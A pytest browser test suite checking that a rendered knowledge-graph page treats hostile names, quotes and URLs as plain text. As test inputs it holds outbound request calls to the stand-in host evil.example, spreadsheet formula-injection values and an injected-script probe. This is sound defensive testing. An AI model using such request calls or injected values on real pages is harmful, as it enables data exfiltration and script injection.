"""The page stands whatever the news says: names, titles, quotes and addresses are only ever text."""

from pathlib import Path

import pytest
from selenium.webdriver.support.expected_conditions import alert_is_present

from kg import page
from tests.browser.graphs import store_of
from tests.browser.pages import Browser

HOSTILE = [
    *(Path(__file__).parent / "hostile.txt").read_text("utf-8").splitlines(),
    "line\u2028para\u2029end",
    "nul\x00\x01\x1b[31m",
]
VIEWS = ("", "view=table", "view=timeline", "view=articles", "view=articles&article=one&claim=quote")


@pytest.fixture(scope="module")
def hostile_page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "graph.html"
    store = store_of(*HOSTILE, title=" ".join(HOSTILE), url=HOSTILE[34], quote=" ".join(HOSTILE))
    path.write_text(page.render(store), "utf-8")
    return path


def test_there_are_at_least_sixty_hostile_strings() -> None:
    assert len(set(HOSTILE)) >= 60


@pytest.mark.parametrize("view", VIEWS)
def test_no_hostile_string_runs_asks_or_makes_an_error(browser: Browser, hostile_page: Path, view: str) -> None:
    browser.open(hostile_page, view)
    browser.js(
        "ENTITIES.forEach((node) => openEntity(node)); document.querySelectorAll('summary').forEach((s) => s.click())"
    )
    assert not alert_is_present()(browser.driver)
    assert browser.js("return window.pwned") is None
    assert (
        browser.js("return document.querySelectorAll('iframe, object, embed, base, form, main img, aside img').length")
        == 0
    )
    assert browser.complaints() == []
    assert browser.requests() == []


def test_every_hostile_name_is_shown_as_it_is(browser: Browser, hostile_page: Path) -> None:
    browser.open(hostile_page)
    shown = browser.js(
        "return ENTITIES.map((node) => { openEntity(node); return document.querySelector('#panel h2').textContent; })"
    )
    assert sorted(shown) == sorted(HOSTILE)


@pytest.mark.parametrize("address", [text for text in HOSTILE if ":" in text or "//" in text])
def test_only_web_addresses_become_links(browser: Browser, hostile_page: Path, address: str) -> None:
    browser.open(hostile_page) if browser.driver.current_url != hostile_page.as_uri() else None
    made = browser.js("const link = outLink(arguments[0], 'x'); return link.href || ''", address)
    assert made == "" or made.startswith("https://")


def test_a_name_that_a_spreadsheet_would_run_is_kept_as_text(browser: Browser, hostile_page: Path) -> None:
    browser.open(hostile_page)
    text = browser.js("return csv([arguments[0]])", ["=1+1", "+cmd", "-x", "@a", "-3.5", 'say "hi"', "plain"])
    assert text == '\ufeff\'=1+1,\'+cmd,\'-x,\'@a,-3.5,"say ""hi""",plain\r\n'


@pytest.mark.parametrize(
    "attempt",
    [
        "fetch('https://evil.example')",
        "new Image().src='https://evil.example/x.png'",
        "import('https://evil.example/x.js')",
    ],
)
def test_the_policy_stops_what_should_never_be_there(browser: Browser, hostile_page: Path, attempt: str) -> None:
    browser.open(hostile_page)
    browser.later(
        f"const done = arguments[0]; try {{ Promise.resolve({attempt}).catch(() => 0)"
        ".finally(() => setTimeout(done, 100)) } catch { done() }"
    )
    assert browser.requests() == []
    assert any("Content Security Policy" in message for message in browser.complaints())


def test_a_script_put_into_the_page_does_not_run(browser: Browser, hostile_page: Path) -> None:
    browser.open(hostile_page)
    browser.js(
        "const s = document.createElement('script'); s.textContent = 'window.pwned = 1'; document.body.append(s)"
    )
    assert browser.js("return window.pwned") is None


def test_nothing_is_kept_in_the_browser(browser: Browser, hostile_page: Path) -> None:
    browser.open(hostile_page)
    assert browser.js("return localStorage.length + sessionStorage.length + document.cookie.length") == 0
